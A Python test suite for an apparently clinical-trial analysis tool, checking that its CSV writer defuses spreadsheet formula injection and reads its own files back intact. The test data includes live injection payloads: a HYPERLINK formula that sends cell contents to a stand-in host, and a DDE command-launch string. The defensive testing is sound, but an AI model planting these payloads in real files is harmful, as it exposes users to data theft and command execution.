"""CSV written by embct opens in a spreadsheet as data: a cell that would run as a formula
(OWASP: ``=``, ``+``, ``-``, ``@``, tab, carriage return first) gets a quote in front, numbers
stay numbers, and embct reads its own files back as they were."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from embct.analysis import AnalysisConfig, analyze, read_table, write_results
from embct.cli import main
from embct.instruments import item_columns
from embct.spreadsheet import neutralize, restore, write_csv

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
FORMULAS += ["\t=1+1", "\r=1+1"]


def cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_every_formula_start_gets_a_quote_and_numbers_are_left_alone(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "text": [*FORMULAS, "-1.5", "+3", "plain", "'=already quoted", None],
            "number": [-1.5, -2.0, 3.0, -4.25, 0.5, 1.0, -0.0, 2.0, 3.0, np.nan, -7.0],
        }
    )
    write_csv(frame, tmp_path / "t.csv")
    rows = cells(tmp_path / "t.csv")[1:]
    assert [row[0] for row in rows] == [
        *("'" + f for f in FORMULAS),
        "-1.5",
        "+3",
        "plain",
        "''=already quoted",
        "",
    ]
    assert [row[1] for row in rows] == [
        "-1.5", "-2.0", "3.0", "-4.25", "0.5", "1.0", "-0.0", "2.0", "3.0", "", "-7.0"
    ]  # fmt: skip


@given(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r'a1. "), max_size=6), max_size=8))
def test_neutralizing_is_reversible(values: list[str]) -> None:
    frame = pd.DataFrame({"text": pd.Series(values, dtype=object), "n": range(len(values))})
    assert restore(neutralize(frame)).equals(frame)


def test_no_neutralized_cell_starts_a_formula() -> None:
    frame = neutralize(pd.DataFrame({"text": [*FORMULAS, "''=x", "'-y"]}))
    assert all(value[0] not in "=+-@\t\r" for value in frame["text"])


def test_embct_score_output_is_neutralized_and_keeps_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"participant_id": ["=1+1", "@P2", "-P3", "P4"]})
    for column in item_columns("mhc", "pre"):
        frame[column] = [0, 5, 3, 2]
    frame["note"] = ["-1.5", "+cmd", "ok", "=A1"]
    source, out = tmp_path / "in.csv", tmp_path / "out.csv"
    frame.to_csv(source, index=False)
    assert main(["score", "mhc", "--in", str(source), "--out", str(out), "--keep-columns"]) == 0
    rows = cells(out)
    header = rows[0]
    ids = [row[header.index("participant_id")] for row in rows[1:]]
    notes = [row[header.index("note")] for row in rows[1:]]
    assert ids == ["'=1+1", "'@P2", "'-P3", "P4"]
    assert notes == ["-1.5", "'+cmd", "ok", "'=A1"]
    # embct reads its own output back as it was.
    assert main(["score", "mhc", "--in", str(out), "--out", str(tmp_path / "again.csv")]) == 0
    again = pd.read_csv(tmp_path / "again.csv", dtype={"participant_id": str})
    assert [row[0] for row in cells(tmp_path / "again.csv")[1:]] == ids
    assert again["mhc_pre"].tolist() == pd.read_csv(out)["mhc_pre"].tolist()


def test_embct_analyze_tables_are_neutralized_and_keep_negative_numbers(tmp_path: Path) -> None:
    raw = pd.DataFrame({"arm": ["=1+1", "-cmd"] * 6, "age": [50, 40, 61, 45, 38, 52] * 2})
    config = AnalysisConfig(reference_label="=1+1", comparison_label="-cmd")
    write_results(analyze(raw, config), tmp_path / "out")
    flow = cells(tmp_path / "out" / "tables" / "flow.csv")
    labels = [row[flow[0].index("arm_label")] for row in flow[1:]]
    assert labels == ["'=1+1", "'-cmd", "total"]
    baseline = pd.read_csv(tmp_path / "out" / "tables" / "baseline.csv")
    assert baseline["ci_low"].dtype == float
    assert baseline["ci_low"].iloc[0] < 0  # a negative number, written as a number


def test_a_neutralized_file_reads_back_as_it_was_in_embct_analyze(tmp_path: Path) -> None:
    frame = pd.DataFrame({"participant_id": ["=a", "b"], "arm": ["mbct", "embct"]})
    write_csv(frame, tmp_path / "t.csv")
    assert read_table(tmp_path / "t.csv")["participant_id"].tolist() == ["=a", "b"]
